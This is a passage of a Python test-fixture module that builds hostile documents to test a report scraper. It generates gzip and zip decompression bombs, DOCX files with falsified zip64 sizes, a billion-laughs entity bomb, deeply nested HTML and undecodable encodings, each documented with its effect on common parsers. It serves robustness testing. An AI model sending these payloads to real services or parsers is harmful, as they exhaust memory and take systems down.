"""Hostile documents: pure functions that return the bytes a hostile or broken portal would send.

Each function builds one kind of attack on a reader that trusts its input: decompression bombs
(HTTP gzip, DOCX/XLSX/OFD zip members, PDF FlateDecode streams), PDFs whose page tree or xref
is absurd, HTML that libxml2 cannot nest, text in an encoding nothing declares. Every docstring
says what the document is and what it does to a naive reader.

How the bombs are built without the memory or the time a real inflation would take: the decoded
data is `head + chunk * count + tail`, and the compressor ends every write with `Z_FULL_FLUSH`.
After a full flush deflate's output is byte-aligned and its match history is cleared, so the same
chunk compresses to the same bytes every time: the chunk (1 MiB) is compressed once, checked once
against a second real compression, and its bytes are then repeated (`_MemoDeflater`). The
checksums of `chunk * count` come from zlib's crc32/adler32 combine algorithms (`crc32_combine`,
`adler32_combine`), so a 16 GiB stream costs microseconds, not a pass over 16 GiB. The zip members
go through `zipfile.ZipFile.open(name, "w", force_zip64=True)` in 1 MiB writes, so zipfile itself
computes their CRC and writes the headers; that CRC pass is the only cost that grows with the
decoded size (about 0.35 s per GiB).

Nothing here ever holds a decoded bomb in memory: peak memory is the compressed output plus one
chunk. To check a bomb, inflate it streaming with a counter (`zlib.decompressobj` with
`max_length`), never with `zlib.decompress` or `ZipFile.read`.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import lru_cache
from html import escape

from tests.reportgen import generate

KiB, MiB, GiB = 1 << 10, 1 << 20, 1 << 30

DEFAULT_TITLE = "临水县水利局2023年政府信息公开工作年度报告"
SITE = "临水县人民政府"
PUBLISHED = "2024-01-25"

# ---------------------------------------------------------------------------------------------
# Checksums of repeated data (zlib's combine algorithms, which Python's zlib does not expose)
# ---------------------------------------------------------------------------------------------

_CRC_POLY = 0xEDB88320  # reflected CRC-32 polynomial
_ADLER_BASE = 65521


def _multmodp(a: int, b: int) -> int:
    """a * b modulo the CRC-32 polynomial, bit-reflected (zlib's `multmodp`); `a` must not be 0."""
    m, p = 1 << 31, 0
    while True:
        if a & m:
            p ^= b
            if not a & (m - 1):
                return p
        m >>= 1
        b = (b >> 1) ^ _CRC_POLY if b & 1 else b >> 1


def _x2n_table() -> list[int]:
    p, table = 1 << 30, []  # x^1
    for _ in range(32):
        table.append(p)
        p = _multmodp(p, p)
    return table


_X2N = _x2n_table()


def _x2nmodp(n: int, k: int) -> int:
    """x^(n * 2^k) modulo the CRC-32 polynomial (zlib's `x2nmodp`)."""
    p = 1 << 31  # x^0
    while n:
        if n & 1:
            p = _multmodp(_X2N[k & 31], p)
        n >>= 1
        k += 1
    return p


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A + B from crc32(A), crc32(B) and len(B), as zlib's `crc32_combine`."""
    return _multmodp(_x2nmodp(len2, 3), crc1) ^ crc2


def adler32_combine(adler1: int, adler2: int, len2: int) -> int:
    """Adler-32 of A + B from adler32(A), adler32(B) and len(B), as zlib's `adler32_combine`."""
    rem = len2 % _ADLER_BASE
    sum1 = adler1 & 0xFFFF
    sum2 = rem * sum1 % _ADLER_BASE
    sum1 = (sum1 + (adler2 & 0xFFFF) + _ADLER_BASE - 1) % _ADLER_BASE
    sum2 = (sum2 + (adler1 >> 16) + (adler2 >> 16) + _ADLER_BASE - rem) % _ADLER_BASE
    return sum1 | (sum2 << 16)


# ---------------------------------------------------------------------------------------------
# Repeated data and its compression
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Repeated:
    """Data of the form `head + chunk * count + tail`, never materialised."""

    head: bytes
    chunk: bytes
    count: int
    tail: bytes

    @classmethod
    def fill(cls, size: int, head: bytes, unit: bytes, tail: bytes) -> _Repeated:
        """Exactly `size` bytes: `head`, `unit` repeated, `tail`; whitespace pads the last unit."""
        chunk = unit * max(1, MiB // len(unit))
        room = size - len(head) - len(tail)
        if room < 0:
            raise ValueError(f"size {size} is smaller than the document's head and tail")
        count, rest = divmod(room, len(chunk))
        units, pad = divmod(rest, len(unit))
        return cls(head, chunk, count, unit * units + b" " * pad + tail)

    @property
    def size(self) -> int:
        return len(self.head) + len(self.chunk) * self.count + len(self.tail)

    def _checksum(
        self, fn: Callable[[bytes, int], int], combine: Callable[[int, int, int], int], init: int
    ) -> int:
        value = fn(self.head, init)
        unit, unit_len, n = fn(self.chunk, init), len(self.chunk), self.count
        while n:  # doubling: chunk*1, chunk*2, chunk*4, ... appended where count has a bit set
            if n & 1:
                value = combine(value, unit, unit_len)
            unit, unit_len, n = combine(unit, unit, unit_len), unit_len * 2, n >> 1
        return fn(self.tail, value)

    def crc32(self) -> int:
        return self._checksum(zlib.crc32, crc32_combine, 0)

    def adler32(self) -> int:
        return self._checksum(zlib.adler32, adler32_combine, 1)

    def iter_bytes(self) -> Iterable[bytes]:
        """The data in pieces of at most one chunk: for streaming writers, never joined."""
        yield self.head
        for _ in range(self.count):
            yield self.chunk
        yield self.tail

    def raw_deflate(self, level: int = 9) -> list[bytes]:
        """The raw deflate stream (no zlib/gzip wrapper) of the data, as parts to join."""
        d = _MemoDeflater(level)
        return [*(d.compress(part) for part in self.iter_bytes()), d.flush()]

    def compressed(self, fmt: str, level: int = 9) -> _Repeated:
        """The data deflated in a zlib (RFC 1950: what PDF's FlateDecode reads) or gzip (RFC 1952:
        HTTP's Content-Encoding) wrapper, itself as repeated data: the compressed chunk repeats,
        so the result can be compressed again (a chained filter) without ever being joined."""
        parts = self.raw_deflate(level)  # [head, chunk x count, tail, final block]
        if fmt == "zlib":
            header, trailer = b"\x78\xda", struct.pack(">I", self.adler32())
        elif fmt == "gzip":  # deflate, no file name, mtime 0, best compression, OS unknown
            header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
            trailer = struct.pack("<II", self.crc32(), self.size & 0xFFFFFFFF)
        else:
            raise ValueError(fmt)
        if not self.count:
            return _Repeated(header + b"".join(parts) + trailer, b"", 0, b"")
        block = parts[1]
        per = max(1, MiB // len(block))
        count, rest = divmod(self.count, per)
        return _Repeated(
            header + parts[0], block * per, count, block * rest + parts[-2] + parts[-1] + trailer
        )

    def join(self) -> bytes:
        """The data itself: only for compressed streams (megabytes), never for decoded bombs."""
        return b"".join(self.iter_bytes())


class _MemoDeflater:
    """A raw-deflate `zlib.compressobj` stand-in that reuses the output of a repeated chunk.

    Every `compress()` ends with Z_FULL_FLUSH (byte-aligned output, match history cleared), so
    equal inputs give equal outputs. The first two occurrences of a large chunk are compressed for
    real and compared; from the third on the bytes are reused. Output is therefore exactly what
    zlib itself writes for the same sequence of writes, at the cost of compressing one chunk.
    """

    def __init__(self, level: int = 9) -> None:
        self._z = zlib.compressobj(level, zlib.DEFLATED, -15, 9)
        self._first: dict[bytes, bytes] = {}
        self._memo: dict[bytes, bytes] = {}

    def compress(self, data: bytes) -> bytes:
        out = self._memo.get(data)
        if out is not None:
            return out
        out = self._z.compress(data) + self._z.flush(zlib.Z_FULL_FLUSH)
        if len(data) >= 64 * KiB:
            first = self._first.pop(data, None)
            if first is None:
                self._first[data] = out
            elif first == out:
                self._memo[data] = out
            else:  # zlib did not reset at the full flush: never reuse, stay correct (and slow)
                raise AssertionError("deflate output after Z_FULL_FLUSH is not repeatable")
        return out

    def flush(self, mode: int = zlib.Z_FINISH) -> bytes:
        return self._z.flush(mode)


# ---------------------------------------------------------------------------------------------
# Report pages (HTML)
# ---------------------------------------------------------------------------------------------


def _agency_year(title: str) -> tuple[str, int]:
    m = re.match(r"(.+?)((?:19|20)\d\d)年", title)
    return (m.group(1), int(m.group(2))) if m else (title, 2023)


@lru_cache(maxsize=64)
def report_body(title: str = DEFAULT_TITLE, *, seed: int = 0) -> str:
    """The article body of a realistic report for `title` (narrative and the three tables).

    Taken from `tests/reportgen.py`'s html shape (Word-pasted spans, rowspan/colspan tables), from
    the first seed at or after `seed` whose report year is `title`'s, with the generated agency
    renamed to `title`'s, so that the body agrees with the title.
    """
    agency, year = _agency_year(title)
    for s in range(seed, seed + 400):
        made = generate(random.Random(s), "html")
        if made.expected.year == year:
            break
    html = made.text
    start = html.index('<div class="TRS_Editor">') + len('<div class="TRS_Editor">')
    end = html.rindex("</div><div class='foot'>")
    return html[start:end].replace(made.expected.agency, agency)


def report_page(
    title: str = DEFAULT_TITLE,
    body: str | None = None,
    *,
    charset: str | None = "utf-8",
    wrap: tuple[str, str] = ("", ""),
) -> str:
    """A report page as a county portal serves it: head metas, header/nav furniture, breadcrumb,
    `<h1>`, the 发布日期 info line, the body in `div#zoom`, print/close tools and the footer.

    `wrap` is markup placed around the breadcrumb-and-article block (used for deep nesting);
    `charset=None` leaves the page without any `<meta charset>`.
    """
    agency, _ = _agency_year(title)
    body = report_body(title) if body is None else body
    t = escape(title)
    meta = f'<meta charset="{charset}">\n' if charset else ""
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
{meta}<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>{t}_{SITE}</title>
<meta name="SiteName" content="{SITE}">
<meta name="SiteIDCode" content="3399000001">
<meta name="ColumnName" content="政府信息公开年报">
<meta name="ArticleTitle" content="{t}">
<meta name="PubDate" content="{PUBLISHED} 09:30">
<meta name="ContentSource" content="{escape(agency)}">
<link rel="stylesheet" href="/css/article.css">
</head>
<body>
<div class="top"><div class="w1200"><span class="date">2024年1月25日 星期四</span>
<a href="javascript:void(0);" id="cniil_wza">无障碍</a> | <a href="javascript:void(0);" class="ghb">关怀版</a> |
<a href="javascript:void(0);" id="StranLink">繁體版</a></div></div>
<div class="header"><img src="/images/logo.png" alt="{SITE}">
<form action="javascript:void(0);"><input type="text" placeholder="请输入关键词"><button>搜索</button></form></div>
<div class="nav"><a href="/">首页</a><a href="/">政务公开</a><a href="javascript:;">办事服务</a><a href="javascript:;">政民互动</a></div>
{wrap[0]}<div class="position">当前位置：<a href="/">首页</a> &gt; <a href="/">政务公开</a> &gt; <a href="/">政府信息公开年报</a> &gt; 正文</div>
<div class="article">
<h1 class="title">{t}</h1>
<div class="info">发布日期：{PUBLISHED} &nbsp; 来源：{escape(agency)} &nbsp; 浏览次数：<span id="hits">128</span> &nbsp; 字号：[<a href="javascript:;">大</a> <a href="javascript:;">中</a> <a href="javascript:;">小</a>]</div>
<div id="zoom" class="zoom">
{body}
</div>
<div class="tools"><a href="javascript:window.print();">打印本页</a> <a href="javascript:window.close();">关闭窗口</a></div>
</div>{wrap[1]}
<div class="footer">
<p>主办：临水县人民政府办公室 &nbsp; 承办：临水县大数据发展中心 &nbsp; 网站标识码：3399000001</p>
<p><a href="https://beian.miit.gov.cn/" target="_blank">临ICP备20240001号-1</a> &nbsp;
<a href="http://www.beian.gov.cn/portal/registerSystemInfo" target="_blank">临公网安备 33990002000001号</a></p>
<p>建议使用1024×768分辨率 &nbsp; <a href="javascript:;">网站地图</a> &nbsp; <a href="javascript:;">联系我们</a></p>
</div>
</body>
</html>
"""


def deep_html(depth: int = 5000, title: str = DEFAULT_TITLE, *, seed: int = 0) -> bytes:
    """A report page (UTF-8) whose breadcrumb, `<h1>` and report body sit inside `depth` nested
    `<div>`s (CMS layout wrappers gone wrong).

    libxml2's HTML parser, and with it lxml and trafilatura, stops at 256 levels ("Excessive depth
    in document: 256 use XML_PARSE_HUGE option"): everything from the 256th level on vanishes, the
    header furniture and `<title>` survive. A naive reader sees a page with a title and no text
    and calls the report image-only or "not a report"; the page is a perfectly good report.
    """
    return report_page(
        title, report_body(title, seed=seed), wrap=("<div>" * depth, "</div>" * depth)
    ).encode()


def utf16_page(title: str = DEFAULT_TITLE, endian: str = "le", bom: bool = False, *, seed: int = 0) -> bytes:
    """A report page encoded UTF-16 (little endian by default) without a BOM and without any
    charset in the page: what a misconfigured IIS/ASP page serves with `Content-Type: text/html`.

    Every ASCII byte is followed (LE) or preceded (BE) by a NUL. A reader that tries ASCII, UTF-8,
    then a GBK guess gets NUL-riddled mojibake; charset detectors that look at the first bytes
    only may call it binary. Nothing declares the encoding: only the NUL pattern tells.
    """
    if endian not in ("le", "be"):
        raise ValueError("endian must be 'le' or 'be'")
    text = report_page(title, report_body(title, seed=seed), charset=None)
    prefix = (b"\xff\xfe" if endian == "le" else b"\xfe\xff") if bom else b""
    return prefix + text.encode(f"utf-16-{endian}")


def unclosed_tag_page(size: int = 8 * MiB, title: str = DEFAULT_TITLE) -> bytes:
    """A report page (UTF-8, about `size` bytes) whose body opens a Word-pasted `<span style="...`
    and never closes it: the rest of the file is one unterminated attribute value, full of `<` but
    with no `>` and no closing quote.

    A regex like `re.sub(r"<[^>]*>", "", page)` restarts at every `<` and scans to the end of the
    file each time: quadratic (measured: 0.3 s at 128 KiB, 4 s at 512 KiB, so ~17 minutes at
    8 MiB). An HTML parser puts the whole body into one attribute value, so the text is empty
    although the page is large.
    """
    head = report_page(title, "\x00").split("\x00")[0].encode() + b'<p><span style="'
    unit = "font-family:仿宋_GB2312;font-size:16pt;mso-spacerun:yes <span style=".encode()
    return _Repeated.fill(size, head, unit, b"").join()


def undecodable_page(size: int = 64 * KiB, *, seed: int = 0) -> bytes:
    """A page that declares UTF-8 (in `<meta>`; serve it with `charset=utf-8` too) whose text is
    neither UTF-8 nor GBK/GB18030 nor Big5, Shift_JIS or EUC-KR.

    The markup is ASCII; every text run is made of byte pairs that are invalid in all of those
    encodings (a lead byte 0x81/0xFE followed by a space or 0x7F, lone 0x80 and 0xFF). Decoding
    with replacement gives a page of U+FFFD (or of € and mojibake with WHATWG's gb18030); a
    reader that falls back to Latin-1 gets plausible-looking garbage. The title appears nowhere in
    readable form: the report link's anchor text is the only clue to what it was.
    """
    rng = random.Random(seed)
    bad = [b"\x81 ", b"\xfe\x7f", b"\x80 ", b"\xff ", b"\x81\x7f"]
    paras = []
    total = 0
    while total < size:
        para = b"<p>" + b"".join(rng.choice(bad) for _ in range(rng.randint(40, 200))) + b"</p>\n"
        paras.append(para)
        total += len(para)
    return (
        b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>\x81 \xfe\x7f\x80 </title></head>\n'
        b'<body><div id="zoom" class="zoom">\n' + b"".join(paras) + b"</div></body></html>\n"
    )


def garbage_body(size: int = 64 * KiB, *, seed: int = 0) -> bytes:
    """Random bytes, to be served as `text/html`: a broken upstream, a truncated binary, or a WAF
    returning an encrypted blob. No markup, no encoding, no text."""
    return random.Random(seed).randbytes(size)


def padded_report_page(size: int, title: str = DEFAULT_TITLE) -> bytes:
    """A genuine report page (UTF-8) padded with repeated narrative paragraphs to `size` bytes.

    Used for the oversized-body cases: a reader that ignores its download size limit would store
    a report it should have refused.
    """
    page = report_page(title).encode()
    cut = page.index(b'\n</div>\n<div class="tools">')
    para = (
        '<p style="text-indent:2em">本机关坚持以公开为常态、不公开为例外，持续深化政务公开。</p>\n'.encode()
    )
    return _Repeated.fill(size, page[:cut], para, page[cut:]).join()


# ---------------------------------------------------------------------------------------------
# HTTP content-encoding bombs
# ---------------------------------------------------------------------------------------------


def _report_head(title: str) -> bytes:
    return (
        f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>{escape(title)}_{SITE}</title></head>\n'
        f'<body><h1>{escape(title)}</h1><div id="zoom" class="zoom"><p>'
    ).encode()


def gzip_bomb(decoded_size: int = GiB, title: str = "临水县财政局2023年政府信息公开工作年度报告") -> bytes:
    """A gzip body (about decoded_size / 1010: 1.06 MB for 1 GiB) that inflates to exactly
    `decoded_size` bytes of HTML: a report page's head with `title`, `<p>`, then zeros.

    Served with `Content-Encoding: gzip` it looks like an ordinary compressed page. A client that
    decompresses without a cap (or checks the size only after decompressing) allocates the whole
    `decoded_size`; one that checks only Content-Length sees 1 MB and lets it through.
    """
    page = _Repeated.fill(decoded_size, _report_head(title), b"0", b"</p></div></body></html>\n")
    return page.compressed("gzip").join()


def gzip_nested_bomb(decoded_size: int = 16 * GiB, title: str = DEFAULT_TITLE) -> bytes:
    """gzip inside gzip (about 40 KB for 16 GiB), for `Content-Encoding: gzip, gzip`.

    The outer layer inflates to a ~16 MB gzip, which inflates to `decoded_size` bytes of HTML. A
    cap applied to one layer only (or a ratio checked per layer: each is a plausible ~1000:1)
    lets it through; HTTP clients decode every listed encoding in turn.
    """
    page = _Repeated.fill(decoded_size, _report_head(title), b"0", b"</p></div></body></html>\n")
    return page.compressed("gzip").compressed("gzip").join()


# ---------------------------------------------------------------------------------------------
# Zip containers: DOCX, XLSX, OFD
# ---------------------------------------------------------------------------------------------

_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WHEN = (2024, 1, 25, 9, 30, 0)


def _docx_parts(title: str) -> list[tuple[str, str]]:
    """The parts of a DOCX other than word/document.xml, in the order Word writes them."""
    agency, _ = _agency_year(title)
    content_types = (
        _XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        '<Override PartName="/docProps/app.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
        "</Types>"
    )
    rels = (
        _XML + f'<Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_DOC_REL}/officeDocument" Target="word/document.xml"/>'
        f'<Relationship Id="rId2" Type="{_PKG_REL}/metadata/core-properties" Target="docProps/core.xml"/>'
        f'<Relationship Id="rId3" Type="{_DOC_REL}/extended-properties" Target="docProps/app.xml"/>'
        "</Relationships>"
    )
    doc_rels = _XML + f'<Relationships xmlns="{_PKG_REL}"></Relationships>'
    core = (
        _XML
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(agency)}</dc:creator>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-25T09:30:00Z</dcterms:created>'
        "</cp:coreProperties>"
    )
    app = (
        _XML
        + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Application>Microsoft Office Word</Application><Pages>6</Pages></Properties>"
    )
    return [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", rels),
        ("word/_rels/document.xml.rels", doc_rels),
        ("docProps/core.xml", core),
        ("docProps/app.xml", app),
    ]


def _docx_document_head(title: str) -> bytes:
    return (
        _XML + f'<w:document xmlns:w="{_W}"><w:body>'
        f'<w:p><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:t>{escape(title)}</w:t></w:r></w:p>'
        "<w:p><w:r><w:t>一、总体情况</w:t></w:r></w:p>"
    ).encode()


_DOCX_TAIL = b'<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'


def _zip(members: list[tuple[str, str | bytes | _Repeated]]) -> bytes:
    """A zip of `members` in order; a `_Repeated` member is deflated streaming with zip64 headers."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, _WHEN)
            info.compress_type = zipfile.ZIP_DEFLATED
            if not isinstance(data, _Repeated):
                zf.writestr(info, data)
                continue
            with zf.open(info, "w", force_zip64=True) as member:
                # zipfile's own deflater would spend ~5 s per GiB; ours writes the same bytes in
                # O(compressed size). zipfile still computes the CRC and sizes and writes headers.
                member._compressor = _MemoDeflater()  # type: ignore[attr-defined]
                for piece in data.iter_bytes():
                    member.write(piece)
    return out.getvalue()


@lru_cache(maxsize=2)  # the slowest build here (zipfile's CRC pass: ~0.35 s per GiB); bytes are immutable
def docx_zip_bomb(
    decoded_size: int = 4 * GiB + 256 * MiB, title: str = DEFAULT_TITLE, *, unit: bytes = b" "
) -> bytes:
    """A DOCX (about decoded_size / 1000: 4.3 MB by default) whose word/document.xml inflates to
    exactly `decoded_size` bytes (4.25 GiB by default, past every 32-bit size field).

    The package is complete ([Content_Types].xml, _rels/.rels, word/_rels, docProps/core.xml with
    the report title), so it sniffs as DOCX. document.xml starts as a real report (title
    paragraph, 一、总体情况), continues with `unit` repeated (whitespace by default: ~1000:1, the
    deflate maximum), then closes properly: well-formed if anyone ever got to the end.
    `unit=b"<w:p/>"` makes it ~700 million empty paragraphs instead (6.7 MB at the default size),
    which also blows up any DOM built from it. python-docx reads the member whole through zipfile:
    a reader without a cap on inflated bytes (or with one that trusts the declared size) allocates
    gigabytes.
    """
    document = _Repeated.fill(decoded_size, _docx_document_head(title), unit, _DOCX_TAIL)
    parts = _docx_parts(title)
    return _zip([*parts[:2], ("word/document.xml", document), *parts[2:]])


def _zip_entries(data: bytes, name: str) -> tuple[int, int]:
    """Offsets of the local file header and of the central directory entry of member `name`."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        local = zf.getinfo(name).header_offset
        pos = zf.start_dir
    while data[pos : pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack("<HHH", data[pos + 28 : pos + 34])
        if data[pos + 46 : pos + 46 + n] == name.encode():
            return local, pos
        pos += 46 + n + m + k
    raise KeyError(name)


def _zip64_extra(data: bytes, start: int, length: int) -> int:
    """Offset of the zip64 extended-information extra field (id 0x0001) in an extra block."""
    pos = start
    while pos < start + length:
        tag, size = struct.unpack("<HH", data[pos : pos + 4])
        if tag == 0x0001:
            return pos
        pos += 4 + size
    raise ValueError("no zip64 extra field")


def docx_lying_sizes(
    decoded_size: int = 4 * GiB + 256 * MiB, declared_size: int = 24 * KiB, title: str = DEFAULT_TITLE
) -> bytes:
    """`docx_zip_bomb`, with word/document.xml's uncompressed size patched to `declared_size`
    (24 KiB) in both its local header and its central directory entry. The CRC is left as is.

    Bytes patched (H = local header offset, C = central directory entry offset, n = len(name)):

    - local header: fixed size fields at H+18 (compressed) and H+22 (uncompressed) hold
      0xFFFFFFFF (zip64); the zip64 extra field starts at H+30+n (after the name): tag 0x0001 at
      +0, data size at +2, **uncompressed size (8 bytes) at +4** ← declared_size, compressed size
      at +12 (kept).
    - central entry: uncompressed size at C+24 holds 0xFFFFFFFF; the zip64 extra starts at
      C+46+n: tag at +0, size at +2, **uncompressed size (8 bytes) at +4** ← declared_size.
      (With `decoded_size` under 4 GiB zipfile writes no zip64 extra in the central entry; then
      the 4-byte field at **C+24** itself ← declared_size.)

    Every size check that trusts the headers (ratio compressed/declared, "file_size > cap") passes:
    24 KiB from 4 MB is not even compression. An inflater that stops at the declared size gets a
    truncated XML and a CRC mismatch (Python's zipfile: BadZipFile "Bad CRC-32"); one that
    inflates until the deflate stream ends, with the declared size as its only limit, writes
    4 GiB into a 24 KiB buffer or allocates it all.

    Python's own zipfile is in the second group for `ZipFile.read()` / `ZipExtFile.read(-1)`: it
    calls `decompress(data, 2**31 - 1)` and only then truncates to the declared size, so reading
    this member whole peaks at ~2 GB of memory before the CRC error (measured: maxrss 2,076 MB;
    617 MB for a 300 MiB member). Reading in bounded pieces (`read(65536)`) stays small.
    """
    data = bytearray(docx_zip_bomb(decoded_size, title))
    local, central = _zip_entries(bytes(data), "word/document.xml")
    n, m = struct.unpack("<HH", data[local + 26 : local + 30])
    extra = _zip64_extra(bytes(data), local + 30 + n, m)
    data[extra + 4 : extra + 12] = struct.pack("<Q", declared_size)
    n, m = struct.unpack("<HH", data[central + 28 : central + 32])
    if data[central + 24 : central + 28] == b"\xff\xff\xff\xff":
        extra = _zip64_extra(bytes(data), central + 46 + n, m)
        data[extra + 4 : extra + 12] = struct.pack("<Q", declared_size)
    else:  # decoded_size under 4 GiB: the central entry has no zip64 extra, the fixed field holds it
        data[central + 24 : central + 28] = struct.pack("<I", declared_size)
    return bytes(data)


def docx_declared_huge(declared_size: int = 0xFFFFFFFE, title: str = DEFAULT_TITLE) -> bytes:
    """A small, readable DOCX (a title and a line of text) whose word/document.xml declares an
    uncompressed size of `declared_size` (4 GiB - 2 by default) in the local header (H+22) and
    the central directory entry (C+24). CRC and data are genuine.

    A reader that preallocates the declared size asks for 4 GiB; one that rejects by declared
    size calls an honest 2 KB document a bomb. Reading it as a (tiny) report is also correct.
    """
    document = (
        _docx_document_head(title)
        + "<w:p><w:r><w:t>本报告所列数据的统计期限自2023年1月1日起至2023年12月31日止。</w:t></w:r></w:p>".encode()
        + _DOCX_TAIL
    )
    parts = _docx_parts(title)
    data = bytearray(_zip([*parts[:2], ("word/document.xml", document), *parts[2:]]))
    local, central = _zip_entries(bytes(data), "word/document.xml")
    data[local + 22 : local + 26] = struct.pack("<I", declared_size)
    data[central + 24 : central + 28] = struct.pack("<I", declared_size)
    return bytes(data)


def docx_billion_laughs(title: str = DEFAULT_TITLE, levels: int = 9) -> bytes:
    """A DOCX (under 2 KB) whose word/document.xml declares nested internal entities, each ten of
    the previous (the "billion laughs"): `&l{levels};` expands to 10**levels copies of a 36-byte
    Chinese string, ~36 GB at 9 levels.

    libxml2 refuses it by default (entity amplification limits), so lxml raises; a parser with
    entity expansion and no amplification limit (or `huge_tree=True`, or expat with a custom
    handler) expands until memory runs out.
    """
    ents = ['<!ENTITY l0 "临水县水利局政府信息公开">']
    ents += [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels + 1)]
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE w:document [\n{chr(10).join(ents)}\n]>\n"
        f'<w:document xmlns:w="{_W}"><w:body>'
        f"<w:p><w:r><w:t>{escape(title)}</w:t></w:r></w:p>"
        f"<w:p><w:r><w:t>&l{levels};</w:t></w:r></w:p>"
    ).encode() + _DOCX_TAIL
    parts = _docx_parts(title)
    return _zip([*parts[:2], ("word/document.xml", document), *parts[2:]])


def xlsx_zip_bomb(decoded_size: int = GiB, title: str = DEFAULT_TITLE, *, unit: bytes = b" ") -> bytes:
    """An XLSX (about 1 MB) whose xl/worksheets/sheet1.xml inflates to `decoded_size` bytes: a
    title cell, then `unit` repeated (whitespace; `unit=b"<row/>"` for empty rows by the hundred
    million). The `docx_zip_bomb` attack on spreadsheet readers (openpyxl keeps every row)."""
    ct = (
        _XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>"
    )
    rels = (
        _XML + f'<Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_DOC_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    workbook = (
        _XML + f'<workbook xmlns="{main}" xmlns:r="{_DOC_REL}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    wb_rels = (
        _XML + f'<Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_DOC_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    head = (
        _XML + f'<worksheet xmlns="{main}"><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{escape(title)}</t></is></c></row>'
    ).encode()
    sheet = _Repeated.fill(decoded_size, head, unit, b"</sheetData></worksheet>")
    return _zip(
        [
            ("[Content_Types].xml", ct),
            ("_rels/.rels", rels),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", wb_rels),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


def ofd_zip_bomb(decoded_size: int = GiB, title: str = DEFAULT_TITLE, *, unit: bytes = b" ") -> bytes:
    """An OFD (GB/T 33190, the Chinese fixed-layout format; about 1 MB) whose single page's
    Doc_0/Pages/Page_0/Content.xml inflates to `decoded_size` bytes: a text object with the title,
    then `unit` repeated (whitespace; e.g. `b'<ofd:PathObject ID="5" Boundary="0 0 1 1"/>'` for
    path objects). OFD readers unzip and parse each page's XML whole: the DOCX attack, in the
    format gov portals increasingly publish."""
    ns = "http://www.ofdspec.org/2016"
    ofd = (
        _XML + f'<ofd:OFD xmlns:ofd="{ns}" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo>'
        f"<ofd:DocID>6c4c4d3e0a1b4f6f9f6b2a2f1f0e0d0c</ofd:DocID><ofd:Title>{escape(title)}</ofd:Title>"
        "<ofd:CreationDate>2024-01-25</ofd:CreationDate></ofd:DocInfo>"
        "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    )
    document = (
        _XML + f'<ofd:Document xmlns:ofd="{ns}"><ofd:CommonData><ofd:MaxUnitID>10</ofd:MaxUnitID>'
        "<ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>"
        "<ofd:PublicRes>PublicRes.xml</ofd:PublicRes></ofd:CommonData>"
        '<ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>'
    )
    res = (
